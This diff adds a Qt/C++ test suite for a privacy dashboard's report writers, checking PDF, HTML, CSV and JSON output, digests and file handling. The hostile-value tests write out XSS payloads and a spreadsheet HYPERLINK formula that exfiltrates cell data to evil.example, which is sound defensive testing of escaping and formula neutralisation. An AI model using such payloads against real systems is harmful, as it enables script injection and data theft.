@@ -1,0 +1,416 @@
+// The report writers, checked the way a reader would: golden files for the demo member,
+// pdfinfo/pdftotext for the PDF, a real HTML parser, Python's csv module and a JSON Schema
+// validator the project did not write, with hostile values in the member's data.
+#include "CsvReportWriter.h"
+#include "JsonReportWriter.h"
+#include "ReportFixtures.h"
+#include "ReportWriter.h"
+
+#include <QDir>
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QProcess>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QThread>
+
+using namespace pd;
+using namespace pd::test;
+
+namespace {
+
+const QString Python = QStringLiteral("/usr/bin/python3");
+
+QString sourcePath(const QString &relative)
+{
+    return QStringLiteral(PD_SOURCE_DIR "/") + relative;
+}
+
+struct Run {
+    int exitCode = -1;
+    QByteArray out;
+    QByteArray err;
+};
+
+Run run(const QString &program, const QStringList &arguments, const QByteArray &input = {})
+{
+    QProcess process;
+    process.start(program, arguments);
+    if (!process.waitForStarted(10000))
+        return {};
+    process.write(input);
+    process.closeWriteChannel();
+    process.waitForFinished(60000);
+    return {process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1, process.readAllStandardOutput(),
+            process.readAllStandardError()};
+}
+
+QByteArray readFile(const QString &path)
+{
+    QFile file(path);
+    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
+}
+
+QString pdfText(const QString &path)
+{
+    const Run text = run(QStringLiteral(PD_PDFTOTEXT), {path, QStringLiteral("-")});
+    return QString::fromUtf8(text.out).simplified();
+}
+
+QString neutralised(const QString &value)
+{
+    if (value.isEmpty())
+        return value;
+    const QChar first = value.front();
+    return QStringLiteral("=+-@\t\r").contains(first) || first == QChar(u'\0') ? u'\'' + value : value;
+}
+
+QByteArray hostileJson()
+{
+    return QJsonDocument(QJsonArray::fromStringList(hostileValues())).toJson(QJsonDocument::Compact);
+}
+
+} // namespace
+
+class TestReportWriters : public QObject
+{
+    Q_OBJECT
+
+private:
+    QTemporaryDir m_dir;
+
+    QString path(const QString &name) const { return m_dir.filePath(name); }
+
+    QString writeOrFail(const UsageReport &report, ReportFormat format, const QString &name, ReportOptions options = {})
+    {
+        options.overwrite = true;
+        const Result<QStringList> written = writeReport(report, format, path(name), options);
+        if (!written)
+            qWarning("%s", qPrintable(written.error().message));
+        return written ? written->first() : QString();
+    }
+
+private Q_SLOTS:
+    void initTestCase()
+    {
+        QVERIFY(m_dir.isValid());
+        QVERIFY2(QFile::exists(QStringLiteral(PD_PDFINFO)), "pdfinfo (poppler-utils) is needed");
+        QVERIFY2(QFile::exists(Python), "/usr/bin/python3 is needed");
+    }
+
+    // Golden files: the demo member at a fixed time. PD_UPDATE_GOLDEN=1 rewrites them.
+    void goldenFiles_data()
+    {
+        QTest::addColumn<QString>("golden");
+        QTest::addColumn<QByteArray>("actual");
+        const UsageReport report = demoReport();
+        QTest::newRow("html") << QStringLiteral("report.html") << renderReport(report, ReportFormat::Html).value();
+        QTest::newRow("csv") << QStringLiteral("report.csv") << renderReport(report, ReportFormat::Csv).value();
+        QTest::newRow("csv history") << QStringLiteral("report-history.csv") << renderCsvHistory(report);
+        QTest::newRow("json") << QStringLiteral("report.json") << renderReport(report, ReportFormat::Json).value();
+        QTest::newRow("letter") << QStringLiteral("letter.txt") << renderReport(report, ReportFormat::Letter).value();
+    }
+
+    void goldenFiles()
+    {
+        QFETCH(QString, golden);
+        QFETCH(QByteArray, actual);
+        const QString goldenPath = sourcePath(QStringLiteral("tests/unit/report/golden/") + golden);
+        if (qEnvironmentVariableIsSet("PD_UPDATE_GOLDEN")) {
+            QFile file(goldenPath);
+            QVERIFY(file.open(QIODevice::WriteOnly));
+            file.write(actual);
+        }
+        const QByteArray expected = readFile(goldenPath);
+        QVERIFY2(!expected.isEmpty(), qPrintable(goldenPath));
+        if (actual != expected) {
+            const QList<QByteArray> a = actual.split('\n');
+            const QList<QByteArray> b = expected.split('\n');
+            for (qsizetype i = 0; i < std::min(a.size(), b.size()); ++i) {
+                if (a.at(i) != b.at(i))
+                    QFAIL(qPrintable(QStringLiteral("%1 differs at line %2:\n got: %3\nwant: %4")
+                                         .arg(golden)
+                                         .arg(i + 1)
+                                         .arg(QString::fromUtf8(a.at(i)), QString::fromUtf8(b.at(i)))));
+            }
+            QFAIL(qPrintable(golden + QStringLiteral(" differs in length")));
+        }
+    }
+
+    void pdfHasPagesMetadataFontsAndTheFigures_data()
+    {
+        QTest::addColumn<int>("paper");
+        QTest::addColumn<QString>("pageSize");
+        QTest::newRow("A4") << int(ReportOptions::Paper::A4) << QStringLiteral("(A4)");
+        QTest::newRow("Letter") << int(ReportOptions::Paper::Letter) << QStringLiteral("(letter)");
+    }
+
+    void pdfHasPagesMetadataFontsAndTheFigures()
+    {
+        QFETCH(int, paper);
+        QFETCH(QString, pageSize);
+        const UsageReport report = demoReport();
+        ReportOptions options;
+        options.paper = ReportOptions::Paper(paper);
+        const QString file =
+            writeOrFail(report, ReportFormat::Pdf, QStringLiteral("report-%1.pdf").arg(paper), options);
+        QVERIFY(!file.isEmpty());
+
+        const QString info = QString::fromUtf8(run(QStringLiteral(PD_PDFINFO), {file}).out);
+        QVERIFY2(info.contains(QStringLiteral("Title:           Generative-AI training report for Alex Morgan")),
+                 qPrintable(info));
+        QVERIFY2(info.contains(QStringLiteral("Author:          Alex Morgan")), qPrintable(info));
+        QVERIFY2(info.contains(QStringLiteral("Creator:         Privacy Dashboard")), qPrintable(info));
+        QVERIFY2(info.contains(QStringLiteral("CreationDate:    Sun Nov 29 09:00:00 2026 UTC")), qPrintable(info));
+        QVERIFY2(info.contains(pageSize), qPrintable(info));
+        const QRegularExpressionMatch pages = QRegularExpression(QStringLiteral("Pages:\\s+(\\d+)")).match(info);
+        QVERIFY(pages.hasMatch());
+        QVERIFY2(pages.captured(1).toInt() >= 4, qPrintable(info)); // title page, chart, tables, rights
+
+        // Every font is embedded.
+        const QString fonts = QString::fromUtf8(run(QStringLiteral("pdffonts"), {file}).out);
+        const QStringList lines = fonts.split(u'\n', Qt::SkipEmptyParts).mid(2);
+        QVERIFY2(!lines.isEmpty(), qPrintable(fonts));
+        for (const QString &line : lines) {
+            const QStringList columns = line.split(u' ', Qt::SkipEmptyParts);
+            QVERIFY2(columns.size() >= 5 && columns.at(columns.size() - 5) == u"yes", qPrintable(line));
+        }
+
+        const QString text = pdfText(file);
+        QVERIFY(text.contains(QStringLiteral("Opting out stops future training on your data, but it does not undo "
+                                             "training that has already taken place")));
+        QVERIFY(text.contains(report.memberFigures));
+        QVERIFY(text.contains(QStringLiteral("Page 1 of ")));
+        QVERIFY(text.contains(report.optOut.confirmationId));
+        for (const ReportCategory &category : report.categories) {
+            QVERIFY2(text.contains(category.label), qPrintable(category.label));
+            QVERIFY2(text.contains(category.reason), qPrintable(category.reason));
+        }
+        QVERIFY(text.contains(ReportText::count(report.totalItems)));
+        QVERIFY(text.contains(ReportText::count(report.totalMayHaveBeenUsed)));
+        for (const QString &line : report.limitations)
+            QVERIFY2(text.contains(line), qPrintable(line));
+    }
+
+    void letterNamesTheMemberCategoriesAndConfirmation()
+    {
+        const UsageReport report = demoReport();
+        const QString file = writeOrFail(report, ReportFormat::LetterPdf, QStringLiteral("letter.pdf"));
+        QVERIFY(!file.isEmpty());
+        const QString text = pdfText(file);
+        QVERIFY(text.contains(QStringLiteral("From: Alex Morgan")));
+        QVERIFY(text.contains(QStringLiteral("Article 21(1)")));
+        QVERIFY(text.contains(QStringLiteral("(confirmation id %1)").arg(report.optOut.confirmationId)));
+        QVERIFY(text.contains(QStringLiteral("Posts and shares: 606 items")));
+        QVERIFY(!text.contains(QStringLiteral("Private messages"))); // not processed for training
+        const QString plain = QString::fromUtf8(renderReport(report, ReportFormat::Letter).value()).simplified();
+        QCOMPARE(text.left(200), plain.left(200));
+    }
+
+    void pdfRendersOnAWorkerThread()
+    {
+        const UsageReport report = demoReport();
+        Result<QByteArray> result = Error::internal(QStringLiteral("not run"));
+        std::unique_ptr<QThread> worker(QThread::create([&] { result = renderReport(report, ReportFormat::Pdf); }));
+        worker->start();
+        QVERIFY(worker->wait(60000));
+        QVERIFY2(result.ok(), result.ok() ? "" : qPrintable(result.error().message));
+        QVERIFY(result->startsWith("%PDF-"));
+    }
+
+    void htmlShowsHostileValuesAsTextAndLoadsNothing()
+    {
+        const UsageReport report = hostileReport();
+        const QString file = writeOrFail(report, ReportFormat::Html, QStringLiteral("hostile.html"));
+        QVERIFY(!file.isEmpty());
+        const Run check =
+            run(Python, {sourcePath(QStringLiteral("tests/unit/report/check_html.py")), file}, hostileJson());
+        QVERIFY2(check.exitCode == 0, check.out.constData());
+
+        const Run demo = run(Python,
+                             {sourcePath(QStringLiteral("tests/unit/report/check_html.py")),
+                              writeOrFail(demoReport(), ReportFormat::Html, QStringLiteral("demo.html"))},
+                             "[]");
+        QVERIFY2(demo.exitCode == 0, demo.out.constData());
+    }
+
+    void pdfShowsHostileValuesAsText()
+    {
+        const QString file = writeOrFail(hostileReport(), ReportFormat::Pdf, QStringLiteral("hostile.pdf"));
+        QVERIFY(!file.isEmpty());
+        const QString text = pdfText(file);
+        QVERIFY2(text.contains(QStringLiteral("<script>alert(1)</script>")), qPrintable(text.left(2000)));
+        QVERIFY(text.contains(QStringLiteral("<img src=\"file:///etc/hostname\">")));
+        QVERIFY(text.contains(QStringLiteral("\"><img src=x onerror=alert(2)>")));
+    }
+
+    void csvReadsBackWithFormulasNeutralised()
+    {
+        const UsageReport report = hostileReport();
+        const QString file = writeOrFail(report, ReportFormat::Csv, QStringLiteral("hostile.csv"));
+        QVERIFY(!file.isEmpty());
+        const Run read = run(Python, {sourcePath(QStringLiteral("tests/unit/report/read_csv.py")), file,
+                                      CsvReportWriter::historyPathFor(file)});
+        QVERIFY2(read.exitCode == 0, read.err.constData());
+        const QJsonArray files = QJsonDocument::fromJson(read.out).array();
+        QCOMPARE(files.size(), 2);
+
+        const QJsonArray categories = files.at(0).toArray();
+        QCOMPARE(categories.size(), report.categories.size() + 1);
+        QCOMPARE(categories.at(0).toArray().at(1).toString(), QStringLiteral("category"));
+        for (qsizetype i = 0; i < report.categories.size(); ++i) {
+            const QJsonArray row = categories.at(i + 1).toArray();
+            const ReportCategory &category = report.categories.at(i);
+            QCOMPARE(row.at(0).toString(), neutralised(category.id));
+            QCOMPARE(row.at(1).toString(), neutralised(category.label));
+            QCOMPARE(row.at(3).toString(), QString::number(category.itemCount));
+            QCOMPARE(row.at(6).toString(), QString::number(category.mayHaveBeenUsed));
+            QCOMPARE(row.at(7).toString(), QString::number(category.notUsed));
+            QCOMPARE(row.at(10).toString(), neutralised(report.member.name));
+            for (const QJsonValue &field : row) {
+                const QString value = field.toString();
+                QVERIFY2(value.isEmpty() || !QStringLiteral("=+-@\t\r").contains(value.front()), qPrintable(value));
+            }
+        }
+        QCOMPARE(categories.at(5).toArray().at(1).toString(),
+                 QStringLiteral("'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"));
+        QCOMPARE(categories.at(10).toArray().at(1).toString(), QStringLiteral("line one\nline \"two\", three"));
+
+        const QJsonArray history = files.at(1).toArray();
+        QCOMPARE(history.size(), 2);
+        QCOMPARE(history.at(1).toArray().at(0).toString(), QStringLiteral("2024-10-02T08:15:00Z"));
+        QCOMPARE(history.at(1).toArray().at(1).toString(), QStringLiteral("true"));
+        QCOMPARE(history.at(1).toArray().at(3).toString(), QStringLiteral("'@SUM(A1:A2)"));
+    }
+
+    void jsonValidatesAgainstTheSchemaWithItsDigest_data()
+    {
+        QTest::addColumn<bool>("hostile");
+        QTest::newRow("demo member") << false;
+        QTest::newRow("hostile values") << true;
+    }
+
+    void jsonValidatesAgainstTheSchemaWithItsDigest()
+    {
+        QFETCH(bool, hostile);
+        const UsageReport report = hostile ? hostileReport() : demoReport();
+        const QString file = writeOrFail(report, ReportFormat::Json, QStringLiteral("report-%1.json").arg(hostile));
+        QVERIFY(!file.isEmpty());
+        const QString schema = sourcePath(QStringLiteral("resources/schema/usage-report.schema.json"));
+        const Run ours = run(Python, {sourcePath(QStringLiteral("tests/schema/validate_json.py")), schema, file});
+        QVERIFY2(ours.exitCode == 0, QByteArray(ours.out + ours.err).constData());
+        const Run theirs =
+            run(Python, {QStringLiteral("-m"), QStringLiteral("jsonschema"), QStringLiteral("-i"), file, schema});
+        QVERIFY2(theirs.exitCode == 0, QByteArray(theirs.out + theirs.err).constData());
+
+        // The digest, recomputed by an independent implementation.
+        const Run digest = run(Python, {QStringLiteral("-c"), QStringLiteral(R"(
+import hashlib, json, sys
+doc = json.load(open(sys.argv[1], encoding="utf-8"))
+claimed = doc.pop("integrity")["sha256"]
+canonical = json.dumps(doc, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode("utf-8")
+sys.exit(0 if hashlib.sha256(canonical).hexdigest() == claimed else 1)
+)"),
+                                        file});
+        QVERIFY2(digest.exitCode == 0, digest.err.constData());
+
+        const QJsonObject document = QJsonDocument::fromJson(readFile(file)).object();
+        QVERIFY(JsonReportWriter::verify(document));
+        QJsonObject tampered = document;
+        QJsonObject totals = tampered.value(QStringLiteral("totals")).toObject();
+        totals.insert(QStringLiteral("mayHaveBeenUsed"), 0);
+        tampered.insert(QStringLiteral("totals"), totals);
+        QVERIFY(!JsonReportWriter::verify(tampered));
+
+        // Values unaltered: no neutralising, no escaping beyond JSON's own.
+        const QJsonObject member = document.value(QStringLiteral("member")).toObject();
+        QCOMPARE(member.value(QStringLiteral("name")).toString(), report.member.name);
+        QCOMPARE(member.value(QStringLiteral("id")).toString(), report.member.id);
+        QCOMPARE(document.value(QStringLiteral("totals")).toObject().value(QStringLiteral("itemCount")).toInteger(),
+                 report.totalItems);
+    }
+
+    void refusesToOverwriteAndWritesPrivateFiles()
+    {
+        const UsageReport report = demoReport();
+        const QString target = path(QStringLiteral("existing.json"));
+        {
+            QFile old(target);
+            QVERIFY(old.open(QIODevice::WriteOnly));
+            old.write("old content");
+        }
+        const Result<QStringList> refused = writeReport(report, ReportFormat::Json, target);
+        QVERIFY(!refused.ok());
+        QCOMPARE(refused.error().kind, ErrorKind::Usage);
+        QVERIFY(refused.error().message.contains(QStringLiteral("already exists")));
+        QCOMPARE(readFile(target), QByteArray("old content"));
+
+        ReportOptions overwrite;
+        overwrite.overwrite = true;
+        QVERIFY(writeReport(report, ReportFormat::Json, target, overwrite).ok());
+        QVERIFY(readFile(target).startsWith("{"));
+
+        const QString fresh = path(QStringLiteral("fresh.html"));
+        QVERIFY(writeReport(report, ReportFormat::Html, fresh).ok());
+        QCOMPARE(QFile::permissions(fresh) & ~(QFileDevice::ReadUser | QFileDevice::WriteUser),
+                 QFileDevice::ReadOwner | QFileDevice::WriteOwner);
+    }
+
+    void csvChecksBothFilesBeforeWritingEither()
+    {
+        const QString target = path(QStringLiteral("pair.csv"));
+        {
+            QFile history(CsvReportWriter::historyPathFor(target));
+            QVERIFY(history.open(QIODevice::WriteOnly));
+        }
+        const Result<QStringList> refused = writeReport(demoReport(), ReportFormat::Csv, target);
+        QVERIFY(!refused.ok());
+        QVERIFY(!QFile::exists(target));
+        QCOMPARE(CsvReportWriter::historyPathFor(QStringLiteral("/a/b.csv")), QStringLiteral("/a/b-history.csv"));
+        QCOMPARE(CsvReportWriter::historyPathFor(QStringLiteral("/a/b")), QStringLiteral("/a/b-history.csv"));
+    }
+
+    void aFailedWriteLeavesNoFile()
+    {
+        const QString target = path(QStringLiteral("missing-dir/report.json"));
+        const Result<QStringList> failed = writeReport(demoReport(), ReportFormat::Json, target);
+        QVERIFY(!failed.ok());
+        QCOMPARE(failed.error().kind, ErrorKind::InvalidInput);
+        QVERIFY(!QFile::exists(target));
+        QVERIFY(!QDir(path(QStringLiteral("missing-dir"))).exists());
+    }
+
+    void formatNamesRoundTrip()
+    {
+        for (const ReportFormat format : {ReportFormat::Pdf, ReportFormat::Html, ReportFormat::Csv, ReportFormat::Json,
+                                          ReportFormat::Letter, ReportFormat::LetterPdf})
+            QVERIFY(reportFormatFromString(toString(format)) == format);
+        QVERIFY(!reportFormatFromString(QStringLiteral("docx")));
+    }
+
+    // Writes the examples shipped in docs/examples when PD_REPORT_EXAMPLES_DIR is set.
+    void writeExamples()
+    {
+        const QString dir = qEnvironmentVariable("PD_REPORT_EXAMPLES_DIR");
+        if (dir.isEmpty())
+            QSKIP("PD_REPORT_EXAMPLES_DIR not set");
+        const UsageReport report = demoReport();
+        ReportOptions options;
+        options.overwrite = true;
+        const QList<std::pair<ReportFormat, QString>> files = {
+            {ReportFormat::Pdf, QStringLiteral("report.pdf")},
+            {ReportFormat::Html, QStringLiteral("report.html")},
+            {ReportFormat::Csv, QStringLiteral("report.csv")},
+            {ReportFormat::Json, QStringLiteral("report.json")},
+            {ReportFormat::Letter, QStringLiteral("letter.txt")},
+            {ReportFormat::LetterPdf, QStringLiteral("letter.pdf")},
+        };
+        for (const auto &[format, name] : files)
+            QVERIFY(writeReport(report, format, QDir(dir).filePath(name), options).ok());
+    }
+};
+
+QTEST_MAIN(TestReportWriters)
+#include "TestReportWriters.moc"
